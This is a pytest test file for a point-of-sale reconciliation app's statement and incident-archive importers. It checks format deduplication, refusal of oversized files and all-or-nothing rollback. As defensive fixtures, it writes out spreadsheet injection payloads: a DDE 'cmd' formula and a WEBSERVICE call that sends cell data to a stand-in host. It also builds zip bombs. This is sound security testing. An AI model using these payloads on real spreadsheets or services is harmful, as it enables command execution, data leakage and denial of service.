"""R11: imported statements and interchange files.

- the same month's sales and bank statement as GBK CSV, UTF-8-with-BOM CSV, XLSX and old XLS:
  the first import adds every row, the same file again adds nothing, the same rows in another
  format add nothing;
- formulas (XLSX without a saved value, XLS with one, CSV cells starting ``= + - @``) are read as
  values or text, never run;
- a million rows (CSV and XLSX): refused with a clear message, fast and with bounded memory
  (measured in a fresh interpreter: seconds and peak RSS from VmHWM);
- zip bombs (XLSX and the interchange ``.zip``): refused with a clear message;
- every failure leaves the row count of every table unchanged (all or nothing), including a
  failure in the middle of an interchange import's transaction.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import recon_fixtures as fx
from rel_helpers import jpeg_bytes, sha256, size

from posaid.core.recon.model import SourceKind
from posaid.core.text import UserError
from posaid.store.db import Store
from posaid.store.interchange import import_path
from posaid.store.statement_import import import_file, preview_file

BIG_ROWS = size("R11", 250_000, 1_000_000)
REPO = Path(__file__).resolve().parents[2]


def counts(store: Store) -> dict[str, int]:
    conn = sqlite3.connect(store.path.resolve().as_uri() + "?mode=ro", uri=True)
    try:
        names = [
            r[0]
            for r in conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' "
                "AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '%search%'"
            )
        ]
        return {n: conn.execute(f'SELECT count(*) FROM "{n}"').fetchone()[0] for n in names}
    finally:
        conn.close()


def refused(store: Store, fn: object) -> str:
    """``fn()`` must raise the app's UserError and change no table; returns the message."""
    before = counts(store)
    with pytest.raises(UserError) as err:
        fn()  # type: ignore[operator]
    assert counts(store) == before
    zh, en = err.value.message("zh_CN"), err.value.message("en")
    assert zh and en and zh != en
    return en


# ---------------------------------------------------------------- formats and twice
WRITERS = {
    "gbk_csv": lambda p, rows: fx.write_csv(p.with_suffix(".csv"), rows, "gbk"),
    "utf8_bom_csv": lambda p, rows: fx.write_csv(p.with_suffix(".csv"), rows, "utf-8-sig"),
    "xlsx": lambda p, rows: fx.write_xlsx(p.with_suffix(".xlsx"), rows),
    "xls": lambda p, rows: fx.write_xls(p.with_suffix(".xls"), rows),
}


@pytest.mark.parametrize(
    ("kind", "rows_of"),
    [
        (SourceKind.SALES, lambda m: fx.sales_rows(m.sales)),
        (SourceKind.STATEMENT, lambda m: fx.statement_rows(m.credits)),
    ],
    ids=["sales", "statement"],
)
def test_r11_every_format_once_and_twice(
    store: Store,
    tmp_path: Path,
    kind: SourceKind,
    rows_of: object,
    figures,  # type: ignore[no-untyped-def]
) -> None:
    month = fx.make_month(seed=11)
    rows = rows_of(month)  # type: ignore[operator]
    expected = len(month.sales) if kind is SourceKind.SALES else len(month.credits)
    added: dict[str, int] = {}
    for i, (fmt, write) in enumerate(WRITERS.items()):
        path = write(tmp_path / f"{kind.value}-{fmt}", rows)
        pv = preview_file(path, kind, store)
        assert pv.error is None, (fmt, pv.error and pv.error.message("en"))
        first = import_file(store, path, pv.mapping)
        added[fmt] = first.added
        assert first.rows_in_file == expected, fmt
        assert first.added == (expected if i == 0 else 0), fmt  # same rows, another format
        before = counts(store)
        again = import_file(store, path, pv.mapping)
        assert again.already_imported and again.added == 0 and counts(store) == before
    figures("R11", **{f"{kind.value}_added_per_format": added, f"{kind.value}_rows": expected})


def test_r11_formulas_are_never_run(store: Store, tmp_path: Path, figures) -> None:  # type: ignore[no-untyped-def]
    import openpyxl

    month = fx.make_month(seed=12, per_day=2)
    rows = fx.sales_rows(month.sales)
    header_at = next(i for i, r in enumerate(rows) if r and r[0] == "交易时间")
    evil = ['=HYPERLINK("http://e.vil","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    for j, row in enumerate(rows[header_at + 1 : -1]):
        row[9] = evil[j % len(evil)]  # the remark column
    csv_path = fx.write_csv(tmp_path / "formulas.csv", rows, "gbk")
    pv = preview_file(csv_path, SourceKind.SALES, store)
    import_file(store, csv_path, pv.mapping)
    remarks = {r[0] for r in store.db.conn.execute("SELECT remark FROM recon_sales")}
    assert remarks <= set(evil) and remarks  # kept as the text typed, not evaluated

    # XLSX: an amount that is a formula without a saved value reads as blank, so the row is
    # reported, not guessed; with one the import names the row instead of running anything.
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in fx.sales_rows(month.sales[:3]):
        ws.append(r)
    ws["H5"] = "=1000*1000"
    ws["J6"] = '=WEBSERVICE("http://e.vil/"&A1)'
    xlsx = tmp_path / "formulas.xlsx"
    wb.save(xlsx)
    table_before = counts(store)
    try:
        pv = preview_file(xlsx, SourceKind.SALES, store)
        res = import_file(store, xlsx, pv.mapping)
        outcome = f"{res.added} rows imported, {res.skipped_summary} reported as not a sale"
    except UserError as exc:
        outcome = "refused: " + exc.message("en")[:60]
        assert counts(store) == table_before
    stored_text = " ".join(
        str(v) for r in store.db.conn.execute("SELECT * FROM recon_sales") for v in r
    )
    assert "WEBSERVICE" not in stored_text, stored_text[-3000:]
    ran = store.db.conn.execute("SELECT count(*) FROM recon_sales WHERE amount_fen = 100000000")
    assert ran.fetchone()[0] == 0  # =1000*1000 yuan was never computed

    # XLS: a FORMULA record gives its cached result only.
    xls_rows = fx.sales_rows(month.sales[:2])
    xls_rows[4][7] = fx.Formula(cached=12.5)
    xls = fx.write_xls(tmp_path / "formula.xls", xls_rows)
    pv = preview_file(xls, SourceKind.SALES, store)
    assert pv.error is None
    assert any("12.5" in cell for row in pv.table.rows for cell in row)
    figures("R11", formulas=f"CSV kept as text; XLSX uncached formula {outcome}; XLS cached value")


# ---------------------------------------------------------------- a million rows
def _big_csv(path: Path, n: int) -> Path:
    lines = ["交易时间,交易金额(元),参考号,交易类型"]
    lines += [
        f"2026-09-{1 + i % 28:02d} 10:{i % 60:02d}:00,{i % 900 + 1}.00,{i:012d},消费"
        for i in range(n)
    ]
    path.write_bytes("\r\n".join(lines).encode("gbk"))
    return path


def _big_xlsx(path: Path, n: int) -> Path:
    """A minimal XLSX written by hand (openpyxl needs ~30 s for a million rows)."""
    rows = "".join(
        f'<row r="{i + 2}"><c r="A{i + 2}" t="inlineStr"><is><t>2026-09-{1 + i % 28:02d} '
        f'10:00:00</t></is></c><c r="B{i + 2}"><v>{i % 900 + 1}</v></c></row>'
        for i in range(n)
    )
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
        '.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>交易'
        f"时间</t></is></c></row>{rows}</sheetData></worksheet>"
    )
    ns = "http://schemas.openxmlformats.org"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "[Content_Types].xml",
            f'<?xml version="1.0"?><Types xmlns="{ns}/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
            'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.worksheet+xml"/></Types>',
        )
        zf.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{ns}/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        zf.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook xmlns="{ns}/spreadsheetml/2006/main" '
            f'xmlns:r="{ns}/officeDocument/2006/relationships"><sheets><sheet name="明细" '
            'sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        zf.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{ns}/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
        )
        zf.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


_MEASURE = """
import sys, time
from pathlib import Path
from posaid.core.text import UserError
from posaid.store.statement_import import preview_file
from posaid.core.recon.model import SourceKind
t0 = time.monotonic()
try:
    preview_file(Path(sys.argv[1]), SourceKind.SALES)
    answer = "accepted"
except UserError as exc:
    answer = exc.message("en")
took = time.monotonic() - t0
hwm = [l for l in open("/proc/self/status") if l.startswith("VmHWM")][0].split()[1]
print(f"{took:.2f}|{int(hwm) // 1024}|{answer}")
"""


def _measure(path: Path) -> tuple[float, int, str]:
    out = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(path)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=REPO,
        check=True,
    ).stdout.strip()
    took, mb, answer = out.split("|", 2)
    return float(took), int(mb), answer


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_r11_a_million_rows(store: Store, tmp_path: Path, fmt: str, figures) -> None:  # type: ignore[no-untyped-def]
    path = (_big_csv if fmt == "csv" else _big_xlsx)(tmp_path / f"big.{fmt}", BIG_ROWS)
    took, peak_mb, answer = _measure(path)
    assert "more than 200000 rows" in answer, answer
    assert took < 10, took
    assert peak_mb < 400, peak_mb
    base_took, base_mb, _ = _measure(fx.write_csv(tmp_path / "small.csv", [["交易时间"], ["x"]]))
    refused(store, lambda: import_file(store, path, preview_file(path, SourceKind.SALES).mapping))
    figures(
        "R11",
        **{
            f"{fmt}_{BIG_ROWS}_rows": f"{path.stat().st_size / 1e6:.0f} MB file refused in "
            f"{took:.2f} s, peak RSS {peak_mb} MB (a tiny file: {base_mb} MB)"
        },
    )


# ---------------------------------------------------------------- zip bombs
def _deflated(zf: zipfile.ZipFile, name: str, n_bytes: int, fill: bytes = b"\x00") -> None:
    with zf.open(name, "w", force_zip64=True) as fh:  # the archive's compression and level
        block = fill * (1 << 20)
        for _ in range(n_bytes >> 20):
            fh.write(block)


def test_r11_xlsx_zip_bombs(store: Store, tmp_path: Path, figures) -> None:  # type: ignore[no-untyped-def]
    results = {}
    # 1: one sheet of 60 MB of zeros (ratio ~1000:1); 2: five parts of 100 MB (500 MB unpacked).
    for label, parts in (("ratio", [60 << 20]), ("total_500MB", [100 << 20] * 5)):
        path = tmp_path / f"bomb-{label}.xlsx"
        ok = _big_xlsx(tmp_path / "ok.xlsx", 3)
        with (
            zipfile.ZipFile(ok) as src,
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        ):
            for info in src.infolist():
                zf.writestr(info.filename, src.read(info.filename))
            for i, n in enumerate(parts):
                _deflated(zf, f"xl/media/pad{i}.bin", n)
        t0 = time.monotonic()
        msg = refused(store, lambda path=path: preview_file(path, SourceKind.SALES, store))
        assert "unsafe size" in msg, msg
        results[label] = (
            f"{path.stat().st_size / 1e6:.1f} MB file refused in {time.monotonic() - t0:.2f} s"
        )
    figures("R11", xlsx_zip_bombs=results)


def _archive(path: Path, doc: dict[str, object], extra: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("data.json", json.dumps(doc, ensure_ascii=False))
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return path


def _doc(
    n: int, bad_at: int | None = None, attachments: list[str] | None = None
) -> dict[str, object]:
    incidents = []
    for i in range(n):
        inc: dict[str, object] = {
            "title": f"R11-{i}" if i != bad_at else "\u0000",  # valid JSON text, blank once stored
            "opened_at": "2026-11-20T09:00:00+08:00",
            "transactions": [{"time": "2026-11-19T21:00:00+08:00", "amount": f"{i + 1}.00"}],
        }
        if attachments and i < len(attachments):
            inc["attachments"] = [
                {
                    "sha256": attachments[i],
                    "media_type": "image/jpeg",
                    "size": 1,
                    "added_at": "2026-11-20T09:00:00+08:00",
                }
            ]
        incidents.append(inc)
    return {"format": "posaid-incidents", "version": 1, "incidents": incidents}


def test_r11_interchange_bombs_and_all_or_nothing(store: Store, tmp_path: Path, figures) -> None:  # type: ignore[no-untyped-def]
    photo = jpeg_bytes((64, 48), seed=11)
    sha = sha256(photo)
    results = {}
    # A good archive first, so "unchanged" means something.
    good = _archive(
        tmp_path / "good.zip", _doc(3, attachments=[sha]), {f"attachments/{sha}.jpg": photo}
    )
    assert len(import_path(store, good).created) == 3
    assert len(import_path(store, good).created) == 0  # twice adds nothing

    # data.json that unpacks past the 200 MB limit (spaces: still "valid" JSON padding).
    bomb = tmp_path / "json-bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        _deflated(zf, "data.json", 210 << 20, b" ")
    t0 = time.monotonic()
    msg = refused(store, lambda: import_path(store, bomb))
    results["data_json_210MB"] = f"refused in {time.monotonic() - t0:.2f} s ({msg[:50]}…)"

    # An attachment entry with a bomb's compression ratio.
    photo2 = jpeg_bytes((64, 48), seed=12)
    sha2 = sha256(photo2)
    bomb2 = _archive(tmp_path / "att-bomb.zip", _doc(5, attachments=[sha2]))
    with zipfile.ZipFile(bomb2, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        _deflated(zf, f"attachments/{sha2}.jpg", 40 << 20)
    t0 = time.monotonic()
    msg = refused(store, lambda: import_path(store, bomb2))
    assert "zip bomb" in msg or "larger" in msg, msg
    results["attachment_ratio"] = f"refused in {time.monotonic() - t0:.2f} s"

    # A failure inside the transaction (the 4th incident's title is blank once stored): the
    # three before it and the attachment copied for the first are all undone.
    photo3 = jpeg_bytes((64, 48), seed=13)
    sha3 = sha256(photo3)
    mid = _archive(
        tmp_path / "mid.zip",
        _doc(6, bad_at=3, attachments=[sha3]),
        {f"attachments/{sha3}.jpg": photo3},
    )
    refused(store, lambda: import_path(store, mid))
    assert not store.attachment_path(sha3).exists()
    # A validation error anywhere: nothing at all.
    doc = _doc(6)
    doc["incidents"][5]["transactions"][0]["amount"] = "abc"  # type: ignore[index]
    (tmp_path / "bad.json").write_text(json.dumps(doc), encoding="utf-8")
    msg = refused(store, lambda: import_path(store, tmp_path / "bad.json"))
    assert "incidents[5].transactions[0].amount" in msg
    # Not a zip, not JSON, truncated zip.
    raw = good.read_bytes()
    for name, data in (("cut.zip", raw[: len(raw) // 2]), ("junk.json", b"\xff\xfe\x00garbage")):
        (tmp_path / name).write_bytes(data)
        refused(store, lambda name=name: import_path(store, tmp_path / name))
    figures("R11", interchange=results, interchange_all_or_nothing="0 rows changed on 6 failures")


def test_r11_statement_all_or_nothing(store: Store, tmp_path: Path) -> None:
    month = fx.make_month(seed=14)
    rows = fx.sales_rows(month.sales)
    rows[len(rows) // 2][7] = "12.3.4"  # one bad amount in the middle
    path = fx.write_csv(tmp_path / "bad.csv", rows, "gbk")
    pv = preview_file(path, SourceKind.SALES, store)
    msg = refused(store, lambda: import_file(store, path, pv.mapping))
    assert "Nothing was imported" in msg
    for name, data in (
        ("junk.xlsx", b"PK\x03\x04 not a workbook"),
        ("junk.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
        ("page.xls", b"<html><table><tr><td>1</td></tr></table></html>"),
        ("binary.csv", b"a,b\x00c"),
        ("empty.csv", b""),
    ):
        (tmp_path / name).write_bytes(data)
        refused(store, lambda name=name: preview_file(tmp_path / name, SourceKind.SALES, store))
